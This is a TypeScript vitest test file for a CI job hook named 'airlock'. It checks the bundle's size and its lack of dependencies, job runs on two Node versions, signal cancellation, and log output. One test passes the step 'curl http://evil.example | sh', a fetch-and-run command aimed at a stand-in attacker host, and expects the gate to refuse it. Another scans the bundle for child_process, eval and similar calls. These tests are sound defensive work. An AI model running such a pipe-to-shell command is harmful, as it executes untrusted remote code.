import { spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { builtinModules } from 'node:module';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { resultOf } from '../fakes/gate.ts';
import { node24 } from '../support/node24.ts';
import { type Ended, run } from '../support/run.ts';
import { readAsRunner } from '../support/runner-parser.ts';
import { type Bundle, bundleHook } from './support/bundle.ts';
import type { Recorded } from './support/job.ts';
import { world } from './support/world.ts';

const here = world();
let bundle: Bundle;
let quick: Bundle;
let nodes: Record<string, string>;
beforeAll(async () => {
  [bundle, quick] = await Promise.all([bundleHook(), bundleHook({ leave: 300, lastWords: 100, retry: 20 })]);
  nodes = { 'the Node of these tests': process.execPath, 'Node 24': await node24() };
}, 300_000);
afterAll(() => {
  bundle.remove();
  quick.remove();
});

const env = () => here.job.env as Record<string, string>;
function start(input: Recorded['input'], node = process.execPath, hook = bundle.path): Promise<Ended> {
  here.job.put(input.responseFile, '');
  return run(node, [hook], { env: env(), input: JSON.stringify(input), cwd: here.job.home });
}
const log = (n: number, ...lines: string[]) => ({ k: 'log', n, step: 'default/a', lines });

describe('the bundle', () => {
  it('has at most 64,000 bytes, is no ES module, and needs nothing but Node', () => {
    expect(Buffer.byteLength(bundle.text)).toBeLessThanOrEqual(64_000);
    expect(bundle.text).not.toMatch(/^(?:import|export) /m);
    const needed = [...bundle.text.matchAll(/\b(?:require|import|getBuiltinModule)\((["'`])([^"'`]+)\1\)/g)].map(
      ([, , name = '']) => name,
    );
    expect(needed.length).toBeGreaterThan(3);
    expect(needed.filter((name) => !name.startsWith('node:') || !builtinModules.includes(name.slice(5)))).toEqual([]);
  });

  it('starts no program and evaluates no text', () => {
    expect(bundle.text).not.toMatch(/child_process|worker_threads|\beval\(|new Function|node:vm|inspector/);
  });

  it.each(['the Node of these tests', 'Node 24'])(
    'runs a whole job on %s, and writes nothing to stderr',
    async (name) => {
      const node = nodes[name];
      const prepared = await start(here.job.prepare(), node);
      const stepped = await start(here.job.step(), node);
      const refused = await start(here.job.step('curl http://evil.example | sh'), node);
      const cleaned = await start(here.job.cleanup(), node);
      const ends = [prepared, stepped, refused, cleaned];
      expect(ends.map(({ code, stderr }) => [code, stderr])).toEqual([
        [0, ''],
        [0, ''],
        [1, ''],
        [0, ''],
      ]);
      expect(here.gate.names()).toEqual([
        'POST sessions',
        'POST challenge',
        'POST rehearsal',
        'POST challenge',
        'POST tasks',
        'GET events',
        'DELETE session',
      ]);
      expect(readAsRunner(refused.stdout).commands.map(({ name: command }) => command)).toEqual(['error']);
      expect(here.job.outputs()['number']).toBe('42');
    },
  );

  it('needs no folder to run in, and leaves nothing there', async () => {
    const input = here.job.prepare();
    here.job.put(input.responseFile, '');
    const ended = await run(process.execPath, [bundle.path], { env: env(), input: JSON.stringify(input), cwd: '/' });
    expect(ended.code).toBe(0);
  });

  it('without a document is one failure', async () => {
    const ended = await run(process.execPath, [bundle.path], { env: env(), input: '' });
    expect([ended.code, ended.stderr]).toEqual([1, '']);
    expect(ended.stdout).toMatch(/^::error title=airlock%3A input-not-json::\[airlock input-not-json\] [^\n]+\n$/);
  });

  it('writes a long log in its order and whole before it ends', async () => {
    const count = 100_000;
    here.gate.script.events = (stream) => {
      for (let n = 1; n <= count; n += 50)
        stream.send(log(n, ...Array.from({ length: 50 }, (_, at) => `line ${n + at}`)));
      stream.send(resultOf(1));
    };
    const { code, stdout } = await start(here.job.step());
    const numbers = stdout
      .split('\n')
      .filter((line) => line.startsWith('line '))
      .map((line) => Number(line.slice(5)));
    expect([code, numbers.length]).toEqual([0, count]);
    expect(numbers.every((number, at) => number === at + 1)).toBe(true);
    expect(stdout).toContain('airlock: success: build 42');
  });
});

describe('a signal', () => {
  /** The hook in a process whose output is read only when the test says so. */
  function begin(hook: string) {
    const input = here.job.step();
    here.job.put(input.responseFile, '');
    const child = spawn(process.execPath, [hook], { env: env(), cwd: here.job.home });
    const ended = new Promise<number | string | null>((resolve) =>
      child.on('exit', (code, signal) => resolve(code ?? signal)),
    );
    child.stdin.end(JSON.stringify(input));
    return { child, ended };
  }

  it.each(['SIGINT', 'SIGTERM'] as const)('%s cancels the task, and the process leaves with code 1', async (signal) => {
    const { child, ended } = begin(quick.path);
    let output = '';
    child.stdout.setEncoding('utf8').on('data', (chunk: string) => {
      output += chunk;
    });
    here.gate.script.events = async (stream) => {
      child.kill(signal);
      await stream.gone;
    };
    expect(await ended).toBe(1);
    expect(here.gate.names()).toContain('POST cancel');
    expect(readAsRunner(output).commands.map(({ data }) => data)).toEqual([
      '[airlock cancelled] the job was cancelled; the gate goes on cancelling the task without this step.',
    ]);
  });

  it('cancels the task and leaves even when nobody reads the log', async () => {
    const { child, ended } = begin(quick.path);
    here.gate.script.events = async (stream) => {
      for (let n = 1; n <= 100; n++) stream.send(log(n, 'x'.repeat(60_000)));
      setTimeout(() => child.kill('SIGINT'), 300);
      await stream.gone;
    };
    expect(await ended).toBe('SIGKILL');
    expect(here.gate.names()).toContain('POST cancel');
    child.stdout.destroy();
  });
});

describe("the hook's own files", () => {
  it('are the only ones that it writes', async () => {
    await start(here.job.prepare());
    expect(existsSync(join(here.job.home, 'index.js'))).toBe(false);
    const { code } = await start(here.job.step());
    expect(code).toBe(0);
    expect(here.job.read('GITHUB_STEP_SUMMARY')).toContain('### airlock: drone build: success');
  });
});
